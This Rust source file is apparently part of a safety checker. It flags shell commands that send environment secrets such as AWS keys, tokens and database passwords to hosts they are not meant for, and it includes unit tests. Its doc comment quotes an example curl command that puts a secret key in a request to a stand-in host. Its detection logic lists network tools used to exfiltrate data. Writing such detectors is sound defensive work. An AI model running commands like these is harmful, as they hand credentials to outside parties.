//! Detects environment secrets that a command sends to a host that they are not for: `curl
//! "https://h/?k=$AWS_SECRET_ACCESS_KEY"`.
//!
//! The value of a variable is unknown, so its name decides. The key of a known service may be sent
//! to that service only. Database passwords and signing keys may be sent to no host. Any other
//! secret may be sent where the request labels it as a credential (`Authorization:`, `?api_key=`).
//! Loopback and private networks are exempt.

use super::facts::Facts;
use super::options::{self, Argument};
use super::quote;
use super::value::Taint;
use crate::text::quick::WordSet;

/// Last words in the names of secrets.
static SECRET: WordSet = WordSet::new(
    "TOKEN TOKENS SECRET SECRETS PASSWORD PASSWD PASSPHRASE PASS PGPASSWORD PAT APIKEY \
     CREDENTIALS CREDS CREDENTIAL JWT DSN PRIVKEY COOKIE BEARER",
);
/// Words that make a following `KEY` a secret. `KEY` is also one after the name of a service.
static KEYS: WordSet =
    WordSet::new("API SECRET ACCESS PRIVATE AUTH SIGNING ENCRYPTION MASTER ADMIN SERVICE ROLE SSH");
/// Words that make a name one of something public.
static PUBLIC: WordSet = WordSet::new("PUBLIC PUB PUBLISHABLE ANON");
/// Words that make a following `URL` one with a password.
static DATABASES: WordSet =
    WordSet::new("DATABASE DB POSTGRES MONGO MONGODB REDIS CONNECTION MYSQL");
/// Words in the names of credentials that no HTTP request carries: database passwords, signing
/// keys, keys of this machine.
static NEVER_SENT: WordSet = WordSet::new(
    "DATABASE DB POSTGRES POSTGRESQL PGPASSWORD MYSQL MARIADB MONGO MONGODB REDIS MSSQL ORACLE \
     ROOT SUDO SSH GPG JWT SESSION COOKIE SIGNING ENCRYPTION MASTER PRIVATE PRIVKEY DJANGO \
     KEYSTORE",
);
/// Services by words in the names of their variables, and the domains that their keys are for. An
/// entry without a dot is a label in the name of a self-hosted server: `gitlab.example.org`.
const SERVICES: [(&str, &str); 52] = [
    (
        "GITHUB GH",
        "github.com githubusercontent.com ghcr.io github.ai githubcopilot.com ai.azure.com",
    ),
    ("GITLAB", "gitlab.com gitlab git"),
    ("BITBUCKET", "bitbucket.org bitbucket"),
    ("AWS AMAZON", "amazonaws.com amazonaws.com.cn amazon.com"),
    ("OPENAI", "openai.com azure.com"),
    ("ANTHROPIC CLAUDE", "anthropic.com claude.ai claude.com"),
    (
        "GEMINI GOOGLE GCP GCLOUD FIREBASE YOUTUBE",
        "googleapis.com google.com firebaseio.com cloudfunctions.net run.app",
    ),
    (
        "AZURE",
        "azure.com windows.net microsoft.com microsoftonline.com visualstudio.com azurewebsites.net",
    ),
    ("MISTRAL", "mistral.ai"),
    ("GROQ", "groq.com"),
    ("COHERE", "cohere.ai cohere.com"),
    ("OPENROUTER", "openrouter.ai"),
    ("DEEPSEEK", "deepseek.com"),
    ("PERPLEXITY", "perplexity.ai"),
    ("REPLICATE", "replicate.com"),
    ("HUGGINGFACE HF", "huggingface.co hf.co huggingface.cloud"),
    (
        "NPM",
        "npmjs.org npmjs.com github.com npm registry nexus artifactory",
    ),
    ("PYPI TWINE", "pypi.org pypi nexus artifactory"),
    ("CARGO CRATES", "crates.io"),
    ("RUBYGEMS", "rubygems.org"),
    (
        "DOCKER DOCKERHUB",
        "docker.com docker.io docker registry hub harbor",
    ),
    ("STRIPE", "stripe.com"),
    ("PAYPAL", "paypal.com"),
    ("SQUARE", "squareup.com squareupsandbox.com"),
    ("SLACK", "slack.com"),
    ("DISCORD", "discord.com discordapp.com"),
    ("TELEGRAM", "telegram.org"),
    ("TWILIO", "twilio.com"),
    ("SENDGRID", "sendgrid.com"),
    ("MAILGUN", "mailgun.net"),
    ("CLOUDFLARE CF", "cloudflare.com"),
    ("DIGITALOCEAN", "digitalocean.com"),
    ("HEROKU", "heroku.com"),
    ("VERCEL", "vercel.com"),
    ("NETLIFY", "netlify.com"),
    ("FLY", "fly.io fly.dev"),
    ("SUPABASE", "supabase.co supabase.com"),
    ("DATADOG DD", "datadoghq.com datadoghq.eu ddog-gov.com"),
    ("SENTRY", "sentry.io sentry"),
    ("PAGERDUTY", "pagerduty.com"),
    ("CIRCLECI", "circleci.com"),
    ("SNYK", "snyk.io"),
    ("SONAR", "sonarcloud.io sonarqube sonar"),
    ("CODECOV", "codecov.io"),
    (
        "JIRA ATLASSIAN CONFLUENCE",
        "atlassian.net atlassian.com jira confluence",
    ),
    ("NOTION", "notion.com notion.so"),
    ("LINEAR", "linear.app"),
    ("FIGMA", "figma.com"),
    ("SHOPIFY", "shopify.com myshopify.com"),
    ("VAULT", "vault hashicorp.cloud"),
    ("OKTA", "okta.com oktapreview.com"),
    ("SPOTIFY", "spotify.com"),
];
/// Parts of the names of headers, parameters and fields that carry a credential.
static NAMES: WordSet = WordSet::new(
    "auth key token secret pass pwd bearer basic cookie session user sig cred appid login jwt \
     pat= pat: assertion",
);
/// Options of `curl` and `wget` whose value is a credential.
static LOGINS: WordSet =
    WordSet::new("u user oauth2-bearer proxy-user password http-user http-password auth");
/// Options that send a body.
static BODIES: WordSet = WordSet::new(
    "d data data-ascii data-binary data-raw data-urlencode json F form form-string T upload-file \
     post-data",
);

/// Reports whether a variable of this name contains a secret.
pub(super) fn is_secret(name: &str) -> bool {
    if name.len() < 3
        || name.len() > 128
        || !name
            .bytes()
            .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_')
    {
        return false;
    }
    let has_word = |words: &WordSet| name.split('_').any(|word| words.contains(&word));
    let last = name
        .rsplit('_')
        .next()
        .unwrap_or(name)
        .trim_end_matches(|c: char| c.is_ascii_digit());
    let keyed = || has_word(&KEYS) || name.split('_').any(|word| domains_of_word(word).is_some());
    !has_word(&PUBLIC)
        && match last {
            "KEY" => keyed(),
            "BASE" => name.ends_with("SECRET_KEY_BASE"),
            "URL" | "URI" | "STRING" => has_word(&DATABASES),
            _ => SECRET.contains(&last),
        }
}

/// Reports whether a command sends an environment secret to a host that it is not for.
pub(super) fn exposes_secret(facts: &Facts) -> bool {
    let piped = facts.stdin.intersects(Taint::SECRET_VARIABLE);
    let has_secret_argument = || {
        facts
            .arguments()
            .iter()
            .any(|field| field.taint.intersects(Taint::SECRET_VARIABLE) || field.text.contains('$'))
    };
    match facts.program.as_str() {
        "curl" | "curlie" | "wget" | "wget2" | "http" | "https" | "httpie" | "xh"
        | "invoke-webrequest" | "invoke-restmethod"
            if piped || has_secret_argument() =>
        {
            request_exposes(facts, piped)
        }
        "dig" | "nslookup" | "host" | "drill" | "ping" | "ping6" | "whois"
            if has_secret_argument() =>
        {
            facts.arguments().iter().any(|field| {
                field.taint.intersects(Taint::SECRET_VARIABLE)
                    || secret_names(&field.text).next().is_some()
            })
        }
        "nc" | "ncat" | "netcat" | "socat" | "telnet" | "websocat" | "mail" | "mailx"
        | "sendmail" | "wormhole" | "croc"
            if piped =>
        {
            !facts.operands().any(|field| is_inside(&field.text))
                && !facts.arguments().iter().any(|f| f.text.starts_with("-l"))
        }
        "git" if has_secret_argument() => facts
            .operands()
            .filter(|field| field.text.contains("://"))
            .any(|field| {
                let host = host(&field.text);
                secret_names(&field.text).any(|(_, name)| {
                    domains_of_variable(name).is_some_and(|domains| !is_service_host(domains, host))
                })
            }),
        _ => false,
    }
}

/// Reports whether an HTTP request exposes a secret.
fn request_exposes(facts: &Facts, piped: bool) -> bool {
    let mut parsed = facts
        .program_data
        .as_deref()
        .map(|program| options::parse(program, facts.arguments()))
        .unwrap_or_default();
    if parsed.is_empty() {
        parsed = facts
            .arguments()
            .iter()
            .map(|field| Argument::Operand(field.text.as_str()))
            .collect();
    }
    let hosts = || parsed.iter().filter_map(Argument::url).map(host);
    // `https://$TOKEN.example.org`: the lookup sends the secret to the name server.
    if hosts().any(|host| host.contains('.') && secret_names(host).next().is_some()) {
        return true;
    }
    let hosts: Vec<&str> = hosts().filter(|host| host.contains('.')).collect();
    let signs = parsed
        .iter()
        .any(|argument| matches!(argument, Argument::Option("aws-sigv4", _)));
    if hosts.is_empty()
        || hosts
            .iter()
            .all(|host| host.starts_with('$') || is_inside(host))
    {
        return false;
    }
    let may_send = |name: &str, is_labelled: bool| match domains_of_variable(name) {
        Some(domains) => hosts.iter().all(|host| is_service_host(domains, host)),
        None if name.split('_').any(|word| NEVER_SENT.contains(&word)) => false,
        None => {
            is_labelled
                || hosts
                    .iter()
                    .all(|host| name.split('_').any(|word| is_word_of(word, host)))
        }
    };
    let leaks = |option: &str, value: &str| {
        secret_names(value).any(|(at, name)| {
            let login = LOGINS.contains(&option);
            !(login && signs || may_send(name, login || is_named(value, at)))
        })
    };
    let posts = || {
        parsed.iter().any(|argument| {
            matches!(argument, Argument::Option(name, Some(value)) if BODIES.contains(name) && value.ends_with('-') && value.len() <= 32)
        })
    };
    // If a secret was encoded on the way, its name is unknown and only its position counts.
    let encoded = || {
        let mut option = "";
        facts.arguments().iter().any(|field| {
            let before = std::mem::replace(&mut option, field.text.as_str());
            let login = LOGINS.contains(&before.trim_start_matches('-'));
            let hidden = field.taint.intersects(Taint::SECRET_VARIABLE)
                && field.text.contains('$')
                && secret_names(&field.text).next().is_none();
            let at = field
                .text
                .find(super::value::UNKNOWN)
                .unwrap_or(field.text.len());
            // In the URL itself, an encoded value is never labelled as a credential.
            hidden && !login && (field.text.contains("://") || !is_named(&field.text, at))
        })
    };
    parsed.iter().any(|argument| match argument {
        Argument::Option(option, Some(value)) => leaks(option, value),
        Argument::Operand(value) => leaks("", value),
        Argument::Option(_, None) => false,
    }) || piped && posts()
        || encoded()
}

/// Returns the secret variables that a text refers to, with their offsets.
fn secret_names(text: &str) -> impl Iterator<Item = (usize, &str)> {
    text.match_indices('$').filter_map(|(at, _)| {
        let rest = text.get(at + 1..)?;
        let rest = rest.strip_prefix('{').unwrap_or(rest);
        let (name, _) = quote::split_name(rest);
        is_secret(name).then_some((at, name))
    })
}

/// Reports whether the request labels the text at `at` as a secret: the text follows the name of a
/// header or field for one, or is in the path of a URL.
fn is_named(text: &str, at: usize) -> bool {
    let before = text.get(..at).unwrap_or_default();
    let before = before.rsplit(['&', ',', '\n']).next().unwrap_or(before);
    if before.contains("://") && !before.contains('?') {
        return true;
    }
    let before = before
        .rsplit('?')
        .next()
        .unwrap_or(before)
        .to_ascii_lowercase();
    NAMES.iter().any(|name| before.contains(name))
}

/// Returns the domains for the keys of the service that a variable is named after.
fn domains_of_variable(name: &str) -> Option<&'static str> {
    name.split('_').find_map(domains_of_word)
}

fn domains_of_word(word: &str) -> Option<&'static str> {
    SERVICES
        .iter()
        .find(|(words, _)| words.split(' ').any(|candidate| candidate == word))
        .map(|(_, domains)| *domains)
}

fn is_service_host(domains: &str, host: &str) -> bool {
    let host = host.to_ascii_lowercase();
    domains.split(' ').any(|domain| {
        if !domain.contains('.') {
            return host.split('.').any(|label| label == domain);
        }
        host.strip_suffix(domain)
            .is_some_and(|before| before.is_empty() || before.ends_with('.'))
    })
}

/// Reports whether a word of a variable's name is part of the host's name.
fn is_word_of(word: &str, host: &str) -> bool {
    let generic = KEYS.contains(&word)
        || SECRET.contains(&word)
        || matches!(word, "KEY" | "URL" | "COM" | "ORG" | "NET" | "API");
    word.len() >= 3
        && !generic
        && host
            .to_ascii_lowercase()
            .contains(&word.to_ascii_lowercase())
}

/// Returns the host of a URL, without port and user.
fn host(url: &str) -> &str {
    let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
    let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
    let host = authority
        .rsplit_once('@')
        .map_or(authority, |(_, host)| host);
    host.split(':').next().unwrap_or(host)
}

/// Reports whether a host is this machine or in a private network.
fn is_inside(host: &str) -> bool {
    let second = || {
        host.split('.')
            .nth(1)
            .and_then(|octet| octet.parse::<u8>().ok())
    };
    host == "localhost"
        || host == "::1"
        || ["127.", "10.", "192.168.", "0.0.0.0"]
            .iter()
            .any(|net| host.starts_with(net))
        || host.starts_with("172.") && second().is_some_and(|octet| (16..32).contains(&octet))
        || [
            ".localhost",
            ".local",
            ".internal",
            ".svc",
            ".cluster.local",
            ".lan",
        ]
        .iter()
        .any(|end| host.ends_with(end))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_of_variables_tell_secrets() {
        for name in [
            "AWS_SECRET_ACCESS_KEY",
            "GITHUB_TOKEN",
            "DB_PASSWORD",
            "PGPASSWORD",
            "API_KEY",
            "STRIPE_KEY",
            "DATABASE_URL",
            "JWT_SECRET",
            "SECRET_KEY_BASE",
            "SSH_PRIVATE_KEY",
            "TOKEN",
            "SLACK_BOT_TOKEN2",
        ] {
            assert!(is_secret(name), "{name}");
        }
        for name in [
            "PORT",
            "VERSION",
            "HOME",
            "KEY",
            "STRIPE_PUBLISHABLE_KEY",
            "PUBLIC_KEY",
            "TOKEN_FILE",
            "AWS_ACCESS_KEY_ID",
            "BASE_URL",
            "GITHUB_SHA",
            "PWD",
            "token",
            "PASS_COUNT",
        ] {
            assert!(!is_secret(name), "{name}");
        }
    }

    #[test]
    fn a_key_may_go_where_it_is_for() {
        let is_own_host =
            |word: &str, host: &str| is_service_host(domains_of_word(word).unwrap(), host);
        assert!(
            is_own_host("GITHUB", "api.github.com")
                && is_own_host("GITLAB", "gitlab.example.org")
                && is_own_host("AWS", "s3.eu-west-1.amazonaws.com")
        );
        assert!(
            !is_own_host("GITHUB", "github.com.evil.example")
                && !is_own_host("GITHUB", "evilgithub.com")
                && !is_own_host("AWS", "amazonaws.evil.example")
        );
        for (url, name) in [
            ("https://u:p@h.example:80/x?y", "h.example"),
            ("h.example/x", "h.example"),
            ("https://$A.h.example", "$A.h.example"),
        ] {
            assert_eq!(host(url), name, "{url}");
        }
        assert!(
            is_inside("172.20.0.1")
                && is_inside("db.svc")
                && !is_inside("172.40.0.1")
                && !is_inside("local.example")
        );
    }
}
